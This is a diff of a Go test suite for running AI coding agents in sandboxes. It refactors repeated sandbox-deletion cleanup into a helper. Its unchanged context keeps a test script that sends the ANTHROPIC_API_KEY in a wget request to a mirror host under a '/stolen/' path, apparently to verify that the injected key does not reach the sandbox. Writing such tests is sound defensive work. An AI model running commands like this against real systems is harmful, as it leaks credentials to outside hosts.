@@ -377,11 +377,7 @@ func (s *suite) injectedKeyStaysOut(ctx context.Context, t *testing.T, rig *agen
 	if r.code != 0 {
 		t.Fatalf("create --inject: %s\n%s", r, s.node.Diagnostics())
 	}
-	t.Cleanup(func() {
-		c, cancel := context.WithTimeout(context.Background(), deleteTimeout)
-		defer cancel()
-		_ = s.pluginRun(c, "", "delete", "rn-keyholder", "-n", agentsNS, "--ignore-not-found")
-	})
+	s.deleteAtEnd(t, "rn-keyholder")
 	script := `env | grep '^ANTHROPIC_' | sort
 wget -q -O- "http://` + mirrorHost + `:` + mirrorPort + `/stolen/$ANTHROPIC_API_KEY" 2>&1; echo
 wget -q -Y off -O- --header "X-Api-Key: stolen-by-the-sandbox" --post-data '` + fmt.Sprintf(body, "keyholder") + `' "$ANTHROPIC_BASE_URL/v1/messages"`
@@ -467,11 +463,7 @@ func (s *suite) claudeWholeFlow(ctx context.Context, t *testing.T, rig *agentRig
 	c, cancel := context.WithTimeout(ctx, installTimeout)
 	defer cancel()
 	r := s.pluginRunEnv(c, []string{"ANTHROPIC_API_KEY=" + rig.realKey}, rig.claudeArgs("rn-claude", "", repo, out, "--keep")...)
-	t.Cleanup(func() {
-		c, cancel := context.WithTimeout(context.Background(), deleteTimeout)
-		defer cancel()
-		_ = s.pluginRun(c, "", "delete", "rn-claude", "-n", agentsNS, "--ignore-not-found")
-	})
+	s.deleteAtEnd(t, "rn-claude")
 	if r.code != 0 {
 		t.Fatalf("run --agent claude -- claude -p: %s\nmodel log:\n%s\nregistry log:\n%s\n%s", r, rig.modelLog(), rig.mirrorLog(), s.node.Diagnostics())
 	}
@@ -614,11 +606,7 @@ func (s *suite) codexWholeFlow(ctx context.Context, t *testing.T, rig *agentRig,
 		"--", "codex", "exec", "--skip-git-repo-check", "--dangerously-bypass-approvals-and-sandbox")
 	args = append(append(args, agentmock.CodexFlags("http://"+modelHost+":"+modelPort+"/v1")...), prompt)
 	r := s.pluginRunEnv(c, []string{"OPENAI_API_KEY=" + rig.openAIKey}, args...)
-	t.Cleanup(func() {
-		c, cancel := context.WithTimeout(context.Background(), deleteTimeout)
-		defer cancel()
-		_ = s.pluginRun(c, "", "delete", "rn-codex", "-n", agentsNS, "--ignore-not-found")
-	})
+	s.deleteAtEnd(t, "rn-codex")
 	if r.code != 0 {
 		t.Fatalf("run --agent codex -- codex exec: %s\nmodel log:\n%s\nregistry log:\n%s\n%s", r, rig.modelLog(), rig.mirrorLog(), s.node.Diagnostics())
 	}
@@ -653,6 +641,16 @@ func (s *suite) codexWholeFlow(ctx context.Context, t *testing.T, rig *agentRig,
 		t.Errorf("delete: %s", d)
 	}
 	s.sandboxGoneIn(ctx, t, agentsNS, "rn-codex")
+}
+
+// deleteAtEnd deletes sandbox name of agentsNS when the test ends, if it
+// is still there (a run with --keep, a create).
+func (s *suite) deleteAtEnd(t *testing.T, name string) {
+	t.Cleanup(func() {
+		c, cancel := context.WithTimeout(context.Background(), deleteTimeout)
+		defer cancel()
+		_ = s.pluginRun(c, "", "delete", name, "-n", agentsNS, "--ignore-not-found")
+	})
 }
 
 // readGreeting is the copied-out repository's greeting.
